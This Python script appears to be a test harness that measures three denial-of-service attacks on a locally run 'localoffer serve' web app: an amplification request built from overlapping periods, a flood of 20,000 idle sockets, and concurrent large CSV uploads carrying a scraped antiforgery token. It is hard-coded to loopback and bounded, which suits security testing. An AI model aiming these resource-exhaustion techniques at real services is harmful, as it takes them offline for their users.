#!/usr/bin/env python3
"""Measures two attacks from issue 9 against a running `localoffer serve`, on loopback only.

  amplify: POST /api/check with one 64 KB body of periods that all overlap; reports the time of
           one request, of 4 in parallel, and the server's resident and peak memory (from /proc).
  flood:   opens N idle sockets (default 20,000) to 127.0.0.1:PORT, holds them for HOLD seconds,
           probing /health each second, then closes them and probes again. Bounded in count and time.

  caseload: N (default 8) clients at once each GET /caseload (for the antiforgery cookie and token)
           and POST the header.csv and episodes.csv of DIR (a `localoffer synth` return, about 18 MB);
           reports the wall time, each status, the server's peak memory and /health's slowest answer,
           probed every 0.5 s throughout. Bounded: one upload per client.

Usage: attack.py amplify PORT PID [RUNS] | attack.py flood PORT PID [N] [HOLD] | attack.py caseload PORT PID DIR [N]
The address is always 127.0.0.1: the script refuses to attack anything else.
"""
import asyncio, json, socket, statistics, sys, time, urllib.request, concurrent.futures, resource

HOST = "127.0.0.1"


def rss(pid):
    out = {}
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith(("VmRSS", "VmHWM")):
                k, v = line.split(":")
                out[k] = int(v.split()[0]) // 1024
    return out


def body():
    ep = '{"start":"2020-01-01","legalStatus":"C2"},'
    n = (64 * 1024 - 100) // len(ep)
    return ('{"dateOfBirth":"2005-01-01","episodes":[' + (ep * n).rstrip(",") + "]}").encode()


def post(port, data):
    t = time.perf_counter()
    req = urllib.request.Request(f"http://{HOST}:{port}/api/check", data=data, headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=300) as r:
            size, status = len(r.read()), r.status
    except urllib.error.HTTPError as e:
        size, status = len(e.read()), e.code
    return time.perf_counter() - t, status, size


def amplify(port, pid, runs=5):
    data = body()
    singles = []
    for _ in range(runs):
        dt, status, size = post(port, data)
        singles.append(dt)
    mem = rss(pid)
    print(f"one request ({len(data):,} bytes): median {statistics.median(singles):.3f} s over {runs}; status {status}; response {size:,} bytes")
    with concurrent.futures.ThreadPoolExecutor(4) as pool:
        t = time.perf_counter()
        list(pool.map(lambda _: post(port, data), range(4)))
        par = time.perf_counter() - t
    mem2 = rss(pid)
    print(f"4 in parallel: {par:.3f} s wall; server RSS {mem['VmRSS']} MB after singles, {mem2['VmRSS']} MB after parallel, peak {mem2['VmHWM']} MB")


def health(port, timeout=3.0):
    t = time.perf_counter()
    try:
        with urllib.request.urlopen(f"http://{HOST}:{port}/health", timeout=timeout) as r:
            return f"{r.status} in {1000 * (time.perf_counter() - t):.0f} ms"
    except Exception as e:
        return f"failed ({type(e).__name__}) after {1000 * (time.perf_counter() - t):.0f} ms"


def flood(port, pid, n=20000, hold=15):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    socks, refused = [], 0
    t = time.perf_counter()
    for _ in range(n):
        s = socket.socket()
        s.setblocking(False)
        try:
            s.connect((HOST, port))
        except BlockingIOError:
            pass
        except OSError:
            refused += 1
            s.close()
            continue
        socks.append(s)
    print(f"opened {len(socks):,} sockets in {time.perf_counter() - t:.1f} s ({refused} refused at connect)")
    for i in range(hold):
        time.sleep(1)
        if i % 3 == 0:
            alive = 0
            for s in socks:
                try:
                    alive += s.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT) != b""
                except BlockingIOError:
                    alive += 1
                except OSError:
                    pass
            print(f"  t+{i + 1:2d} s: /health {health(port)}; {alive:,} of our sockets still open; server RSS {rss(pid)['VmRSS']} MB")
    for s in socks:
        s.close()
    time.sleep(1)
    print(f"after closing: /health {health(port)}; server RSS {rss(pid)['VmRSS']} MB, peak {rss(pid)['VmHWM']} MB")


def upload(port, folder, as_at="2026-03-31"):
    import http.cookiejar, os, re, uuid
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar()))
    page = opener.open(f"http://{HOST}:{port}/caseload", timeout=60).read().decode()
    token = re.search(r'name="__af" value="([^"]+)"', page).group(1)
    y, m, d = as_at.split("-")
    fields = {"__af": token, "asAt-day": d, "asAt-month": m, "asAt-year": y, "within": "60", "adviser": ""}
    b = uuid.uuid4().hex
    parts = [f'--{b}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode() for k, v in fields.items()]
    for name in ("header", "episodes"):
        with open(os.path.join(folder, f"{name}.csv"), "rb") as f:
            parts.append(f'--{b}\r\nContent-Disposition: form-data; name="{name}"; filename="{name}.csv"\r\n'
                         f'Content-Type: text/csv\r\n\r\n'.encode() + f.read() + b"\r\n")
    data = b"".join(parts) + f"--{b}--\r\n".encode()
    req = urllib.request.Request(f"http://{HOST}:{port}/caseload", data=data,
                                 headers={"Content-Type": f"multipart/form-data; boundary={b}"})
    t = time.perf_counter()
    try:
        with opener.open(req, timeout=600) as r:
            size, status = len(r.read()), r.status
    except urllib.error.HTTPError as e:
        size, status = len(e.read()), e.code
    return time.perf_counter() - t, status, size, len(data)


def caseload(port, pid, folder, n=8):
    import threading
    worst, probes, done = [0.0], [0], threading.Event()

    def probe():
        while not done.is_set():
            t = time.perf_counter()
            try:
                urllib.request.urlopen(f"http://{HOST}:{port}/health", timeout=120).read()
            except Exception:
                pass
            worst[0] = max(worst[0], time.perf_counter() - t)
            probes[0] += 1
            done.wait(0.5)

    prober = threading.Thread(target=probe)
    prober.start()
    t = time.perf_counter()
    with concurrent.futures.ThreadPoolExecutor(n) as pool:
        results = list(pool.map(lambda _: upload(port, folder), range(n)))
    wall = time.perf_counter() - t
    done.set()
    prober.join()
    mem = rss(pid)
    statuses = ", ".join(f"{s} ({size // 1024} KB) in {dt:.1f} s" for dt, s, size, _ in results)
    print(f"{n} uploads of {results[0][3] / 1e6:.1f} MB at once: {wall:.1f} s wall; {statuses}")
    print(f"server peak RSS {mem['VmHWM']} MB (now {mem['VmRSS']} MB); "
          f"/health slowest {1000 * worst[0]:.0f} ms over {probes[0]} probes")


if __name__ == "__main__":
    mode, port, pid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    if mode == "caseload":
        caseload(port, pid, sys.argv[4], *[int(a) for a in sys.argv[5:]])
        sys.exit(0)
    rest = [int(a) for a in sys.argv[4:]]
    (amplify if mode == "amplify" else flood)(port, pid, *rest)
